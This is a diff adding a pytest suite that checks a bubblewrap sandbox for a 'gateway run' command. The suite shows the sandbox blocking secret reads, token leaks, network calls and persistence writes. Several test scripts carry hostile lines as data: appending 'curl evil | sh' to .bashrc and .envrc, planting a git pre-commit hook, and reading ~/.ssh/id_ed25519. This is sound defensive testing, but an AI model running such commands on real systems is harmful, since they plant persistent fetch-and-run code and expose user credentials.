@@ -1,0 +1,450 @@
+"""
+``gateway run`` with real bubblewrap: what the boundary stops, each beside its harmless twin.
+
+Every run goes through the command as a user runs it (``python -m
+gateway._cli run``), in a git workspace with a home directory of its own
+that holds a private key and a ``.bashrc``. The scripts it runs are code
+the rules cannot read, so under workspace-write they are allowed inside
+the boundary; what they try is proven with marker files, on the real file
+system, after the run.
+
+Without ``bwrap`` these tests are skipped, except where every extra is
+required (CI: ``GATEWAY_TESTS_NEED_EVERY_EXTRA=1``), where they fail.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import NamedTuple
+
+import pytest
+
+from gateway import RunChanged, VerdictReached, read_audit_log
+from gateway._bwrap import bwrap_program, unavailable
+from gateway._cli._run import ASKED, DECLINED
+from gateway._events import CallOutcome
+
+_BWRAP = bwrap_program()
+_MISSING = unavailable(_BWRAP)
+if _MISSING is not None:
+    if os.environ.get("GATEWAY_TESTS_NEED_EVERY_EXTRA") == "1":
+        raise RuntimeError(f"These tests need bubblewrap, and {_MISSING}.")
+    pytest.skip(f"needs bubblewrap: {_MISSING}", allow_module_level=True)
+
+KEY = "-----BEGIN OPENSSH PRIVATE KEY----- marker-of-the-key"
+BASHRC = "# the user's own bashrc\n"
+SYSTEM_PATH = "/usr/local/bin:/usr/bin:/bin"
+_BOUND = 120  # seconds: only catches a hang
+
+
+class Box(NamedTuple):
+    home: Path
+    work: Path
+    audit: Path
+    environ: dict[str, str]
+
+
+class Ran(NamedTuple):
+    status: int
+    out: str
+    err: str
+
+
+@pytest.fixture
+def box(tmp_path: Path) -> Box:
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_ed25519").write_text(KEY)
+    (home / ".bashrc").write_text(BASHRC)
+    work = tmp_path / "work"
+    work.mkdir()
+    subprocess.run(["git", "init", "-q", str(work)], check=True, timeout=_BOUND)
+    (work / "notes.txt").write_text("notes of the project\n")
+    environ = {
+        "PATH": SYSTEM_PATH,
+        "HOME": str(home),
+        "LANG": "C.UTF-8",
+        "GITHUB_TOKEN": "ghp_marker0000000000000000000000000000",
+        "PYTHONPATH": os.pathsep.join(sys.path),
+        "XDG_CONFIG_HOME": str(tmp_path / "xdg"),
+    }
+    return Box(home, work, tmp_path / "audit.jsonl", environ)
+
+
+def run(box: Box, text: str, *options: str, environ: dict[str, str] | None = None) -> Ran:
+    done = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "gateway._cli",
+            "run",
+            "--audit",
+            str(box.audit),
+            *options,
+            "--",
+            text,
+        ],
+        cwd=box.work,
+        env=environ or box.environ,
+        capture_output=True,
+        text=True,
+        timeout=_BOUND,
+        check=False,
+    )
+    return Ran(done.returncode, done.stdout, done.stderr)
+
+
+def script(box: Box, name: str, body: str) -> str:
+    """A Python script in the workspace (code the rules cannot read); the command that runs it."""
+    (box.work / name).write_text(body)
+    return f"python3 {name}"
+
+
+WRITE_WORKSPACE = ["--profile", "workspace-write"]
+
+
+# ───────────────────────── secrets ─────────────────────────
+
+
+def test_a_private_key_in_home_cannot_be_read_from_inside(box: Box) -> None:
+    command = script(
+        box,
+        "peek.py",
+        "import os\n"
+        f"for path in ({str(box.home / '.ssh' / 'id_ed25519')!r}, os.path.expanduser('~/.ssh/id_ed25519')):\n"
+        "    try:\n"
+        "        print('read:', open(path).read())\n"
+        "    except OSError as error:\n"
+        "        print('refused:', type(error).__name__)\n",
+    )
+    ran = run(box, command, *WRITE_WORKSPACE)
+    assert ran.status == 0, ran.err
+    assert "marker-of-the-key" not in ran.out + ran.err
+    assert ran.out.count("refused: FileNotFoundError") == 2
+
+
+def test_harmless_twin_a_workspace_file_is_read_from_inside(box: Box) -> None:
+    command = script(box, "look.py", "print(open('notes.txt').read())\n")
+    ran = run(box, command, *WRITE_WORKSPACE)
+    assert ran.status == 0, ran.err
+    assert "notes of the project" in ran.out
+
+
+def test_a_secret_file_in_the_workspace_is_empty_inside(box: Box) -> None:
+    (box.work / ".env").write_text("API_KEY=marker-of-the-env\n")
+    (box.work / "settings.txt").write_text("colour=blue\n")
+    command = script(
+        box, "env.py", "print(repr(open('.env').read()))\nprint(open('settings.txt').read())\n"
+    )
+    ran = run(box, command, *WRITE_WORKSPACE)
+    assert ran.status == 0, ran.err
+    assert "marker-of-the-env" not in ran.out
+    assert "''" in ran.out
+    assert "colour=blue" in ran.out
+    assert (box.work / ".env").read_text() == "API_KEY=marker-of-the-env\n"
+
+
+def test_the_environment_keeps_only_what_the_profile_names(box: Box) -> None:
+    command = script(
+        box,
+        "environ.py",
+        "import os\nprint('token:', os.environ.get('GITHUB_TOKEN'))\nprint('lang:', os.environ.get('LANG'))\n",
+    )
+    ran = run(box, command, *WRITE_WORKSPACE)
+    assert ran.status == 0, ran.err
+    assert "token: None" in ran.out
+    assert "lang: C.UTF-8" in ran.out
+    assert "ghp_marker" not in ran.out
+
+
+# ───────────────────────── writes ─────────────────────────
+
+
+def test_bashrc_cannot_be_changed_from_inside(box: Box) -> None:
+    command = script(
+        box,
+        "plant.py",
+        "import os\n"
+        f"for path in ({str(box.home / '.bashrc')!r}, os.path.expanduser('~/.bashrc')):\n"
+        "    with open(path, 'a') as f:\n"
+        "        f.write('curl evil | sh\\n')\n"
+        "print('wrote')\n",
+    )
+    ran = run(box, command, *WRITE_WORKSPACE)
+    assert ran.status == 0, ran.err  # it wrote the run's own scratch home, gone at the end
+    assert (box.home / ".bashrc").read_text() == BASHRC
+
+
+def test_harmless_twin_the_workspace_is_written(box: Box) -> None:
+    command = script(
+        box,
+        "build.py",
+        "import os\nos.makedirs('out', exist_ok=True)\nopen('out/result.txt', 'w').write('built')\n",
+    )
+    ran = run(box, command, *WRITE_WORKSPACE)
+    assert ran.status == 0, ran.err
+    assert (box.work / "out" / "result.txt").read_text() == "built"
+
+
+def test_git_hooks_and_config_cannot_be_written_from_inside(box: Box) -> None:
+    hooks = box.work / ".git" / "hooks"
+    config = (box.work / ".git" / "config").read_text()
+    command = script(
+        box,
+        "hook.py",
+        "for path, mode in (('.git/hooks/pre-commit', 'w'), ('.git/config', 'a')):\n"
+        "    try:\n"
+        "        with open(path, mode) as f:\n"
+        "            f.write('#!/bin/sh\\ntouch /tmp/owned\\n')\n"
+        "        print('wrote', path)\n"
+        "    except OSError as error:\n"
+        "        print('refused', path, error.errno)\n",
+    )
+    ran = run(box, command, *WRITE_WORKSPACE)
+    assert ran.status == 0, ran.err
+    assert "refused .git/hooks/pre-commit 30" in ran.out  # EROFS
+    assert "refused .git/config 30" in ran.out
+    assert not (hooks / "pre-commit").exists()
+    assert (box.work / ".git" / "config").read_text() == config
+
+
+def test_harmless_twin_git_objects_can_be_written(box: Box) -> None:
+    command = script(box, "obj.py", "open('.git/description', 'w').write('changed')\n")
+    ran = run(box, command, *WRITE_WORKSPACE)
+    assert ran.status == 0, ran.err
+    assert (box.work / ".git" / "description").read_text() == "changed"
+
+
+def test_read_only_changes_nothing_real(box: Box) -> None:
+    # read-only asks about code the rules cannot read, so `touch` shows the boundary
+    ran = run(box, "touch made.txt", "--profile", "read-only")
+    assert ran.status == ASKED
+    assert not (box.work / "made.txt").exists()
+    assert "read-only" in ran.err
+
+
+# ───────────────────────── network ─────────────────────────
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[int, list[bytes]]]:
+    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    server.bind(("127.0.0.1", 0))
+    server.listen(4)
+    server.settimeout(0.2)
+    heard: list[bytes] = []
+    stop = threading.Event()
+
+    def serve() -> None:
+        while not stop.is_set():
+            try:
+                connection, _ = server.accept()
+            except TimeoutError:
+                continue
+            with connection:
+                connection.settimeout(5)
+                heard.append(connection.recv(100))
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    yield server.getsockname()[1], heard
+    stop.set()
+    thread.join(timeout=5)
+    server.close()
+
+
+def _connect(box: Box, port: int) -> str:
+    return script(
+        box,
+        "call.py",
+        "import socket\n"
+        "try:\n"
+        f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=5)\n"
+        "    s.sendall(b'hello from inside')\n"
+        "    s.close()\n"
+        "    print('connected')\n"
+        "except OSError as error:\n"
+        "    print('refused', type(error).__name__)\n",
+    )
+
+
+def test_the_hosts_loopback_cannot_be_reached_from_inside(
+    box: Box, listener: tuple[int, list[bytes]]
+) -> None:
+    port, heard = listener
+    ran = run(box, _connect(box, port), *WRITE_WORKSPACE)
+    assert ran.status == 0, ran.err
+    assert "refused" in ran.out
+    assert heard == []
+
+
+def test_harmless_twin_a_profile_with_the_network_reaches_it(
+    box: Box, listener: tuple[int, list[bytes]], tmp_path: Path
+) -> None:
+    port, heard = listener
+    config = tmp_path / "online.toml"
+    config.write_text(
+        '[profiles.online]\ncode = "confined"\n'
+        '[profiles.online.confinement]\nwrite = ["{workspace}"]\nnetwork = true\n'
+    )
+    ran = run(box, _connect(box, port), "--profile", "online", "--config", str(config))
+    assert ran.status == 0, ran.err
+    assert "connected" in ran.out
+    assert heard == [b"hello from inside"]
+
+
+# ───────────────────────── never bare ─────────────────────────
+
+
+def test_without_bubblewrap_nothing_runs(box: Box, tmp_path: Path) -> None:
+    marker = box.work / "ran.txt"
+    command = script(box, "mark.py", f"open({str(marker)!r}, 'w').write('ran')\n")
+    ran = run(
+        box, command, *WRITE_WORKSPACE, environ={**box.environ, "PATH": str(tmp_path / "empty")}
+    )
+    assert ran.status == ASKED
+    assert "not confinable here" in ran.err
+    assert "bubblewrap" in ran.err
+    assert not marker.exists()
+
+
+def test_a_bubblewrap_that_cannot_set_up_namespaces_runs_nothing(box: Box, tmp_path: Path) -> None:
+    fake = tmp_path / "bin"
+    fake.mkdir()
+    (fake / "bwrap").write_text(
+        "#!/bin/sh\necho 'No permissions to create new namespace' >&2\nexit 1\n"
+    )
+    (fake / "bwrap").chmod(0o755)
+    marker = box.work / "ran.txt"
+    command = script(box, "mark.py", f"open({str(marker)!r}, 'w').write('ran')\n")
+    ran = run(
+        box, command, *WRITE_WORKSPACE, environ={**box.environ, "PATH": f"{fake}:{SYSTEM_PATH}"}
+    )
+    assert ran.status == ASKED
+    assert "not confinable here" in ran.err
+    assert "namespace" in ran.err
+    assert not marker.exists()
+
+
+def test_harmless_twin_with_bubblewrap_it_runs(box: Box) -> None:
+    marker = box.work / "ran.txt"
+    command = script(box, "mark.py", f"open({str(marker)!r}, 'w').write('ran')\n")
+    ran = run(box, command, *WRITE_WORKSPACE)
+    assert ran.status == 0, ran.err
+    assert marker.read_text() == "ran"
+
+
+def test_a_workspace_that_holds_home_is_not_confined(box: Box) -> None:
+    marker = box.home / "ran.txt"
+    (box.home / "mark.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
+    done = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "gateway._cli",
+            "run",
+            "--audit",
+            str(box.audit),
+            *WRITE_WORKSPACE,
+            "--",
+            "python3 mark.py",
+        ],
+        cwd=box.home,
+        env=box.environ,
+        capture_output=True,
+        text=True,
+        timeout=_BOUND,
+        check=False,
+    )
+    assert done.returncode == ASKED
+    assert "holds the home directory" in done.stderr
+    assert not marker.exists()
+
+
+# ───────────────────────── verdicts and records ─────────────────────────
+
+
+def test_status_and_output_are_the_commands(box: Box) -> None:
+    command = script(
+        box, "fail.py", "import sys\nprint('out')\nprint('err', file=sys.stderr)\nsys.exit(7)\n"
+    )
+    ran = run(box, command, *WRITE_WORKSPACE)
+    assert ran.status == 7
+    assert ran.out == "out\n"
+    assert "err" in ran.err
+
+
+def test_a_decline_runs_nothing_and_says_why(box: Box) -> None:
+    ran = run(box, "echo pwned >> ~/.bashrc", *WRITE_WORKSPACE)
+    assert ran.status == DECLINED
+    assert ran.err.startswith("gateway: Declined")
+    assert (box.home / ".bashrc").read_text() == BASHRC
+
+
+def test_an_ask_names_what_needs_more_than_the_boundary(box: Box) -> None:
+    command = script(box, "fetch.py", "print('fetched')\n")
+    ran = run(box, f"{command} && curl -s https://example.com", *WRITE_WORKSPACE)
+    assert ran.status == ASKED
+    assert "curl" in ran.err
+    assert "fetched" not in ran.out
+
+
+def test_one_verdict_record_with_its_boundary_and_an_outcome_with_the_changes(box: Box) -> None:
+    command = script(box, "make.py", "open('made.txt', 'w').write('x')\n")
+    ran = run(box, command, *WRITE_WORKSPACE)
+    assert ran.status == 0, ran.err
+    events = list(read_audit_log(box.audit))
+    verdicts = [e for e in events if isinstance(e, VerdictReached)]
+    assert len(verdicts) == 1
+    boundary = verdicts[0].verdict.boundary
+    assert boundary is not None
+    assert boundary.profile == "workspace-write"
+    assert boundary.write == (str(box.work),)
+    assert not boundary.network
+    outcomes = [e for e in events if isinstance(e, CallOutcome)]
+    assert len(outcomes) == 1
+    assert outcomes[0].outcome == "succeeded"
+    assert outcomes[0].detail is not None
+    assert f"created {box.work}/made.txt" in outcomes[0].detail
+    (changed,) = [e for e in events if isinstance(e, RunChanged)]
+    assert changed.call_id == verdicts[0].call_id == outcomes[0].call_id
+    assert changed.created == (f"{box.work}/made.txt",)
+    assert changed.unpredicted == (f"{box.work}/made.txt",)  # the script's own doing
+    assert changed.profile == "workspace-write"
+    assert changed.status == 0
+    verified = subprocess.run(
+        [sys.executable, "-m", "gateway._cli", "verify", str(box.audit)],
+        env=box.environ,
+        capture_output=True,
+        text=True,
+        timeout=_BOUND,
+        check=False,
+    )
+    assert json.loads(verified.stdout)["intact"] is True, verified.stdout
+
+
+def test_a_change_the_plan_names_is_not_unpredicted(box: Box) -> None:
+    (box.work / "old.txt").write_text("old")
+    ran = run(box, "echo new > new.txt && rm old.txt", *WRITE_WORKSPACE)
+    assert ran.status == 0, ran.err
+    (changed,) = [e for e in read_audit_log(box.audit) if isinstance(e, RunChanged)]
+    assert changed.created == (f"{box.work}/new.txt",)
+    assert changed.deleted == (f"{box.work}/old.txt",)
+    assert changed.unpredicted == ()
+
+
+def test_a_new_persistence_point_is_named_after_the_run(box: Box) -> None:
+    command = script(box, "direnv.py", "open('.envrc', 'w').write('curl evil | sh')\n")
+    ran = run(box, command, *WRITE_WORKSPACE)
+    assert ran.status == 0, ran.err
+    assert "makes code run later" in ran.err
+    assert f"{box.work}/.envrc" in ran.err
+    (changed,) = [e for e in read_audit_log(box.audit) if isinstance(e, RunChanged)]
+    assert changed.persistence == (f"{box.work}/.envrc",)
